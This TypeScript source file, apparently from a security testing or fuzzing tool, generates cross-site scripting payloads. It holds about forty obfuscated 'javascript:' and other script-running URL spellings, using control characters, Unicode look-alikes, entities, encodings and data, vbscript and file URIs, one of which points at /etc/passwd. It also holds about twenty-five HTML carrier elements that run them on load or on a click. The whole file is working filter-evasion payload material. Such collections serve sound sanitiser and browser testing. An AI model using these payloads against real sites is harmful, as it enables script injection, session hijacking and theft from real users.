import type { Mark, Template } from './payload-template.ts';

/** Addresses that run a script when followed, in spellings that browsers understand, or once did. */
const ADDRESSES: readonly Template[] = [
  ({ js }) => `javascript:${js}`,
  ({ js }) => `JaVaScRiPt:${js}`,
  ({ js }) => `java\tscript:${js}`,
  ({ js }) => `java\nscript\r:${js}`,
  ({ js }) => `\u0001 javascript:${js}`,
  ({ js }) => `\u0000javascript:${js}`,
  ({ js }) => `java\u0000script:${js}`,
  ({ js }) => `\u00a0javascript:${js}`,
  ({ js }) => `\u2028javascript:${js}`,
  ({ js }) => `\ufeffjavascript:${js}`,
  ({ js }) => `java\u200bscript:${js}`,
  ({ js }) => `java\u00adscript:${js}`,
  ({ js }) => `\uff4aavascript:${js}`,
  ({ js }) => `javascript\uff1a${js}`,
  ({ js }) => `&#106;avascript:${js}`,
  ({ js }) => `&#x6A&#x61vascript:${js}`,
  ({ js }) => `java&Tab;script&colon;${js}`,
  ({ js }) => `java&NewLine;script:${js}`,
  ({ js }) => `%6Aavascript:${js}`,
  ({ js }) => `javascript%3A${js}`,
  ({ js }) => `javascript://%0A${js}`,
  ({ js }) => `javascript:/*http://a.example/*/${js}`,
  ({ js }) => `view-source:javascript:${js}`,
  ({ js }) => `feed:javascript:${js}`,
  ({ js }) => `vbscript:${js}`,
  ({ js }) => `livescript:${js}`,
  ({ js }) => `data:text/html,<script>opener.${js}</script>`,
  ({ js }) => `data:text/html;base64,${Buffer.from(`<script>parent.${js}</script>`).toString('base64')}`,
  ({ js }) => `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="parent.${js}"/>`,
  ({ js }) => `data:,${js}`,
  ({ url }) => `blob:${url}`,
  ({ url }) => `filesystem:${url}`,
  ({ url }) => `intent:${url}#Intent;end`,
  ({ js }) => `about:blank#${js}`,
  ({ js }) => `file:///etc/passwd?${js}`,
  ({ url }) => `//javascript:${url}`,
  ({ url }) => `/\\${url.replace('http://', '')}`,
  ({ url }) => `/\t/${url.replace('http://', '')}`,
  // Not a valid address: resolving it throws.
  ({ js }) => `http://[${js}`,
  ({ js }) => `https://%zz:port/${js}`,
];

function quoted(address: string): string {
  return address.replaceAll('"', '&quot;');
}

type AddressPayload = { readonly address: Template; readonly link: Template };

/** Each address alone, for fields that hold one, and as a link in HTML. */
export const addressPayloads: readonly AddressPayload[] = ADDRESSES.map((address) => ({
  address,
  link: (mark: Mark) => `<a href="${quoted(address(mark))}">a</a>`,
}));

/** Elements other than links that follow an address, on load or at a visitor's touch. */
export const carriers: readonly Template[] = [
  '<img src="@"><img srcset="@ 1x, @ 2x">',
  '<area href="@" shape=default>',
  '<form action="@"><button>a</button></form>',
  '<form><button formaction="@">a</button><input type=submit formaction="@"></form>',
  '<svg><a xlink:href="@"><text y=20>a</text></a></svg>',
  '<svg><a><animate attributeName=href values="@" /><text y=20>a</text></a></svg>',
  '<svg><use href="@#a"></use></svg>',
  '<math href="@"><mi>a</mi></math>',
  '<iframe src="@"></iframe>',
  '<embed src="@">',
  '<object data="@"><param name=movie value="@"></object>',
  '<applet code="@">',
  '<base href="@/"><a href=x>a</a>',
  '<meta http-equiv=refresh content="0;url=@">',
  '<link rel=stylesheet href="@">',
  '<link rel=import href="@">',
  '<link rel=manifest href="@">',
  '<video poster="@" src="@"></video>',
  '<audio src="@" autoplay></audio>',
  '<body background="@">',
  '<input type=image src="@">',
  '<a href="/projects" ping="@">a</a>',
  '<blockquote cite="@">a</blockquote>',
  '<img longdesc="@" usemap="@" src=x>',
  '<portal src="@"></portal>',
  '<script src="@"></script>',
].map(
  (html): Template =>
    ({ js }) =>
      html.replaceAll('@', `javascript:${js}`),
);
